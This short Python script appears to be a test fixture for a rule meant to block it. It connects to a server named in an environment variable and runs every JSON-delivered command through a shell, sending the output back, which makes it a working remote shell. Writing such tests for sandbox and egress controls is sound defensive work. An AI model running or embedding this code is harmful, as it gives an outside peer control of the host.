# what: commands as strings in lines of JSON, each run by sh -c, from a peer that no rule names
# server: json
# rule: block
import json, os, socket, subprocess

host, port = os.environ["SERVER"].split(":")
s = socket.create_connection((host, int(port)))
print("begun", flush=True)
s.sendall(b"hello\n")
for line in s.makefile():
    command = json.loads(line)["run"]
    if command == "exit":
        break
    s.sendall(subprocess.run(command, shell=True, capture_output=True).stdout + b".")
print("done")
